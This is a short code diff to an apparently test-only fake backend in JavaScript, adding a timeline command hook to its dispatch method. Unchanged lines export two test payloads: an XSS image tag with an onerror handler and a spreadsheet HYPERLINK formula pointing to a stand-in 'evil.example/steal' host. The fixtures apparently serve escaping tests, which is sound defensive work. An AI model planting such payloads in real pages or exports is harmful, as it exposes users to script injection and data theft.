@@ -2,6 +2,7 @@
 // deterministic generated events, a toy query parser, and keyset pagination.
 
 import { workspaceCommand } from "./fake-workspace.mjs";
+import { timelineCommand } from "./fake-timeline.mjs";
 
 export const XSS_IMG = "<img src=x onerror=alert(1)>";
 export const XSS_FORMULA = '=HYPERLINK("http://evil.example/steal","Click to view")';
@@ -424,6 +425,8 @@ export class FakeBackend {
   }
 
   async dispatch(cmd, args) {
+    const timeline = timelineCommand(this, cmd, args);
+    if (timeline) return timeline;
     switch (cmd) {
       case "app_info":
         return { ok: this.appInfo };
